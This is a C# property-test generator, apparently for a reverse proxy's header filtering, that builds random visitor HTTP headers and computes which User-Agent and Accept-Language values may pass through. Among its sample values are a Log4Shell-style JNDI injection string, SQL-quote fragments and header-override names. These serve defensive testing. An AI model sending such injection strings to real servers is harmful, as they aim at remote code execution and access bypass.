using CsCheck;

namespace PortalProxy.Tests.Connector.Door;

/// <summary>Headers of a visitor as lines, and which of them an appliance may see, in which bytes.</summary>
internal sealed record VisitorHeaderLines(string Sent, string Passed, bool IsAnotherSites)
{
    private const int LongestPassed = 1024;

    private static readonly Gen<string> AnyName = Gen.OneOf(
        Gen.OneOf(
            "Cookie", "Authorization", "Proxy-Authorization", "Proxy-Connection", "X-Real-IP", "X-Forwarded-For", "X-Forwarded-Host",
            "X-Forwarded-Proto", "X-Forwarded-Prefix", "Forwarded", "Via", "Range", "If-None-Match", "If-Modified-Since", "If-Range",
            "Connection", "Keep-Alive", "Upgrade", "HTTP2-Settings", "TE", "Trailer", "Max-Forwards", "Accept", "Accept-Encoding",
            "Accept-Charset", "Referer", "DNT", "traceparent", "tracestate", "baggage", "Request-Id", "Correlation-Context", "b3",
            "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "X-Original-For", "Client-IP", "True-Client-IP", "From",
            "Content-Encoding", "Content-Language", "Sec-WebSocket-Key", "Sec-WebSocket-Version", "Pragma", "Cache-Control", "Date"),
        Gen.Char["!#$%&'*+-.^_`|~abcXYZ019"].Array[1, 12].Select(letters => "X" + new string(letters)));

    private static readonly Gen<string> AnyValue = Gen.OneOf(
        Gen.OneOf(
            "close", "keep-alive, User-Agent, Accept-Language, X-Forwarded-For", "upgrade", "websocket", "h2c", "trailers", "gzip", "for=203.0.113.9",
            "203.0.113.9", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "a=b", "/api/command.ns", "DELETE", ""),
        Gen.Char['\u0001', '\u00FF'].Array[0, 60].Select(Line));

    private static readonly Gen<string> Browser = Gen.OneOf(
        Gen.Char[' ', '~'].Array[0, 80].Select(Line),
        Gen.Char['\u0001', '\u00FF'].Array[0, 20].Select(Line),
        Gen.Int[LongestPassed - 2, LongestPassed + 2].Select(length => new string('x', length)));

    private static readonly Gen<string> Languages = Gen.OneOf(
        Gen.OneOf("sv, de;q=0.5", "*", "en_US", "zh-Hant-TW,zh;q=0.9,\ten;q=0.1", "${jndi:ldap://203.0.113.9/a}", "de\"", "sv'--", "d\u00E9"),
        Gen.Char["abcXYZ019*-_,;=. \t"].Array[0, 40].Select(Line),
        Gen.Int[LongestPassed - 2, LongestPassed + 2].Select(length => new string('a', length)));

    private static readonly Gen<string[]> Origin = Gen.OneOf<string[]>(
        [],
        [],
        new[] { "Sec-Fetch-Site: same-origin" },
        ["Sec-Fetch-Site: none", "Origin: null"],
        ["Sec-Fetch-Site: cross-site"],
        ["Sec-Fetch-Site: same-site", "Origin: http://portal.example"],
        ["Origin: http://portal.example"],
        ["Origin: https://elsewhere.example"],
        ["Origin: null"]);

    public static readonly Gen<VisitorHeaderLines> All = Gen.Select(
        Gen.Select(AnyName, AnyValue, (name, value) => $"{name}: {value}").Array[0, 12],
        Browser.Array[0, 2],
        Languages.Array[0, 2],
        Origin,
        (others, browsers, languages, origin) => new VisitorHeaderLines(
            string.Concat(
                browsers.Select(one => $"user-AGENT:{one}").Concat(others).Concat(languages.Select(one => $"Accept-Language: {one}"))
                    .Concat(origin).Select(line => line + "\r\n")),
            OneOf("User-Agent", browsers, letter => letter is >= ' ' and not '\u007F')
                + OneOf("Accept-Language", languages, letter => char.IsAsciiLetterOrDigit(letter) || "*-_,;=. \t".Contains(letter, StringComparison.Ordinal)),
            origin is [] or ["Sec-Fetch-Site: same-origin"] or ["Sec-Fetch-Site: none", _] or ["Origin: http://portal.example"] is false));

    // Of several the first; whole or not at all. Spaces and tabs around a value are not part of it (RFC 9112, section 5.1).
    private static string OneOf(string name, string[] values, Func<char, bool> mayPass) =>
        values is [var first, ..] && first.Trim(' ', '\t') is { Length: > 0 and <= LongestPassed } value && value.All(mayPass)
            ? $"{name}: {value}\r\n"
            : "";

    // A line end in a value would make it two headers, which the others here are as well; a NUL is no HTTP.
    private static string Line(char[] letters) => new([.. letters.Where(letter => letter is not ('\r' or '\n'))]);
}
